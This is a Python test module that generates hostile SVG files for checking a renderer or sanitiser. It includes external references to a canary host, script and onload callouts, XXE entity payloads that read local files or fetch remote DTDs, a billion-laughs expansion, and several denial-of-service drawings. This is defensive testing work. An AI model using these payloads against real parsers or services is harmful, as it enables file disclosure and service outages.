"""SVG: what refers to others in each way that SVG, CSS and XML have, and drawings that take for ever."""

from collections.abc import Iterator
from xml.sax.saxutils import quoteattr

from tests.corpus import papers
from tests.corpus.hostile.case import SHOWN, Canary, Hostile

_BROKEN = "broken_file"
_XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="80"'


def cases(canary: Canary) -> Iterator[Hostile]:
    """The four quarters, and something hostile in front of them."""
    for name, there in canary.references("canary.png").items():
        inside = f'<image href={quoteattr(there)} width="120" height="80"/>'
        yield Hostile("references", f"SVG: a picture at {name}", papers.svg(inside=inside), SHOWN)
    for name, inside in _references(canary):
        yield Hostile("references", f"SVG: {name}", papers.svg(_XLINK, inside), SHOWN)
    for name, head in _entities(canary):
        data = papers.svg(inside="<desc>&secret;</desc>", head=head)
        yield Hostile("references", f"SVG: {name}", data, f"{_BROKEN}|{SHOWN}")
    for name, data, outcome in _bombs():
        yield Hostile("drawings", f"SVG: {name}", data, outcome)
    noise = '<feTurbulence baseFrequency=".9" numOctaves="1000000"/>'
    endless = papers.svg(inside=f'<filter id="t">{noise}</filter><path d="M0 0H99V99" filter="url(#t)"/>')
    yield Hostile("endless", "SVG: a million octaves of noise", endless, "timed_out")


def _references(canary: Canary) -> Iterator[tuple[str, str]]:
    http, png, svg = f"http://{canary.host}/a", canary.path("canary.png"), canary.path("canary.svg")
    whole = 'x="0" y="0" width="120" height="80"'
    yield "a picture by xlink", f'<image xlink:href="{png}" {whole}/>'
    yield "a drawing as a picture", f'<image href="{svg}" {whole}/>'
    yield "a use of another file", f'<use href="{svg}#c"/><use xlink:href="{http}.svg#c"/>'
    yield "an imported style", f"<style>@import url({http}.css); @import '{png}';</style>"
    font = f"@font-face {{ font-family: f; src: url({http}.ttf), url('file://{canary.path('canary.ttf')}') }}"
    yield "a font", f'<style>{font}</style><text x="5" y="40" font-family="f">words</text>'
    yield "a picture as a filter", f'<filter id="f"><feImage href="{png}"/></filter><rect {whole} filter="url(#f)"/>'
    yield "a filter elsewhere", f'<rect {whole} fill="none" filter="url({http}.svg#f)" mask="url({svg}#m)"/>'
    yield "a pattern elsewhere", f'<rect {whole} fill="url({svg}#p)" fill-opacity="0"/>'
    yield "a style that shows a picture", f'<style>rect {{ cursor: url({http}); background: url("{png}") }}</style>'
    yield "a script", f"<script href='{http}.js'>fetch('{http}')</script>"
    yield (
        "a page",
        f'<foreignObject {whole}><iframe xmlns="http://www.w3.org/1999/xhtml" src="{http}"/></foreignObject>',
    )
    yield "an inclusion", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{svg}"/>'
    inner = f"&lt;svg xmlns='http://www.w3.org/2000/svg'>&lt;image href='{png}' width='120' height='80'/>&lt;/svg>"
    yield "a drawing inside that refers on", f'<image href="data:image/svg+xml;utf8,{inner}" {whole}/>'
    yield "an event", f'<rect {whole} fill="none" onload="location=\'{http}\'"/><animate onbegin="fetch(\'{http}\')"/>'


def _entities(canary: Canary) -> Iterator[tuple[str, str]]:
    for name, there in canary.references("canary.txt").items():
        yield f"an entity at {name}", f"<!DOCTYPE svg [<!ENTITY secret SYSTEM {quoteattr(there)}>]>"
    http = f"http://{canary.host}/a"
    yield "a parameter entity", f'<!DOCTYPE svg [<!ENTITY % all SYSTEM "{http}.dtd"> %all; <!ENTITY secret "">]>'
    yield "a document type elsewhere", f'<!DOCTYPE svg SYSTEM "{http}.dtd" [<!ENTITY secret "">]>'
    yield "a style sheet", f'<?xml-stylesheet href="{http}.css"?><!DOCTYPE svg [<!ENTITY secret "">]>'


def _doubled(element: str, levels: int, times: int) -> str:
    """Each level has the one below so many times."""
    made = "".join(
        f'<g id="u{level}">' + f'<use href="#u{level - 1}"/>' * times + "</g>" for level in range(1, levels + 1)
    )
    return f'<defs><g id="u0">{element}</g>{made}</defs><use href="#u{levels}"/>'


def _bombs() -> Iterator[tuple[str, bytes, str]]:
    svg, late = papers.svg, f"timed_out|out_of_memory|{_BROKEN}|{SHOWN}"
    yield "2^31 by 2^31", svg('width="2147483647" height="2147483647" viewBox="0 0 120 80"'), SHOWN
    yield "infinitely wide", svg('width="1e38" height="1" viewBox="0 0 1e38 1"'), f"{_BROKEN}|{SHOWN}"
    yield "of no number", svg('width="NaN" height="-5"'), f"{_BROKEN}|{SHOWN}"
    yield "100,000 groups inside of each other", svg(inside="<g>" * 100_000 + "</g>" * 100_000), f"{_BROKEN}|crashed"
    yield "ten to the eighth uses", svg(inside=_doubled('<path d="M0 0L9 9"/>', 8, 10)), late
    yield "a use of itself", svg(inside='<g id="a"><use href="#a"/></g><use href="#a"/>'), f"{_BROKEN}|{SHOWN}"
    pattern = '<pattern id="p" width="1" height="1"><rect width="1" height="1" fill="url(#p)"/></pattern>'
    yield (
        "a pattern of itself",
        svg(inside=pattern + '<rect width="9" height="9" fill="url(#p)"/>'),
        f"{_BROKEN}|{SHOWN}",
    )
    clip = '<clipPath id="c" clip-path="url(#c)"><path d="M0 0L9 9" clip-path="url(#c)"/></clipPath>'
    yield "a clip of itself", svg(inside=clip + '<g clip-path="url(#c)"/>'), f"{_BROKEN}|{SHOWN}"
    mask = '<mask id="m" mask="url(#m)"><rect width="9" height="9" mask="url(#m)"/></mask>'
    yield "a mask of itself", svg(inside=mask + '<rect width="9" height="9" mask="url(#m)"/>'), f"{_BROKEN}|{SHOWN}"
    blur = '<filter id="f"><feGaussianBlur stdDeviation="1e9"/></filter><path d="M0 0L9 9" filter="url(#f)"/>'
    yield "a vast blur", svg(inside=blur), late
    dashes = '<path d="M0 0H1e9" stroke="#000" stroke-dasharray="1e-9"/>'
    yield "a billion dashes", svg(inside=dashes), late
    yield "a path of 200,000 points", svg(inside='<path d="M0 0' + "l1 1-1-1" * 100_000 + '"/>'), late
    yield "5,000 attributes", svg(" ".join(f'a{n}=""' for n in range(5_000))), f"{_BROKEN}|{SHOWN}"
    laughs = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "laugh"}">' for n in range(10))
    yield "a billion laughs", svg(inside="<desc>&e9;</desc>", head=f"<!DOCTYPE svg [{laughs}]>"), f"{_BROKEN}|{SHOWN}"
    three = f'<!DOCTYPE svg [<!ENTITY e "{"a" * 3_000}">]>'
    yield "an entity of 3 kB, 10,000 times", svg(inside="<desc>" + "&e;" * 10_000 + "</desc>", head=three), late
    picture = "data:image/svg+xml;utf8,&lt;svg xmlns='http://www.w3.org/2000/svg' width='1e5' height='1e5'/>"
    yield "a drawing of 10^10 inside", svg(inside=f'<image href="{picture}" width="1e5" height="1e5"/>'), late
